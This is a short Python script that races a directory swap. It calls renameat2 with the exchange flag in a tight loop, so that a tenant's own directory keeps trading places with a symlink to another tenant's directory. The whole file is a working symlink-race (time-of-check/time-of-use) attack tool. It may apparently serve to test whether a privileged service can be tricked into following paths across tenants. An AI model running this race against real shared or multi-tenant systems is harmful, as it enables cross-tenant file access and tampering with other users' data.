"""A tenant swaps a directory of its own for a link to somebody else's, as fast as it can, for some seconds.

usage: swap.py SECONDS DIRECTORY TARGET
"""

import ctypes
import os
import sys
import time

seconds, directory, target = sys.argv[1:]
rename = ctypes.CDLL(None, use_errno=True).renameat2
trap = f"{directory}.trap"
os.makedirs(directory, exist_ok=True)
if not os.path.lexists(trap):
    os.symlink(target, trap)
until = time.monotonic() + float(seconds)
rounds = 0
while time.monotonic() < until:
    # both at once, so that there is always something under the name
    if rename(-100, os.fsencode(directory), -100, os.fsencode(trap), 2) == 0:
        rounds += 1
    if rounds % 7 == 0:
        time.sleep(0.0005)
if os.path.islink(directory):
    rename(-100, os.fsencode(directory), -100, os.fsencode(trap), 2)
print(rounds)
